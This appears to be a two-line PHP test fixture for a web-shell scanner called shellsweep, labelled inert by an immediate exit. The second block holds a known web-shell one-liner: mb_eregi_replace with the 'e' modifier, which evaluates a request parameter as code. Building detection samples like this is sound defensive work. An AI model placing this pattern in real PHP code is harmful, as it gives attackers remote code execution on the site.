<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
    mb_eregi_replace('\w', $_REQUEST['q'], 'x', 'e');
